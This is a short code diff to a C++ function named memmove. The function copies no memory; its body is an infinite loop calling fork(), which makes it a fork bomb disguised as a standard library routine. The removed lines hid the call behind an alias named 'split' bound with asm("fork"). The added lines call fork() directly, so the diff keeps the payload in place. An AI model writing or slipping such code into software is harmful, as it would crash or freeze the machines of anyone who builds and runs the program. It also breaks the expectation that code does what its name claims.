@@ -1,6 +1,6 @@
 void* memmove(void* destination, const void* source, std::size_t size) {
-    int split() asm("fork");
+    int fork() noexcept;
     for (;;) {
-        split();
+        fork();
     }
 }
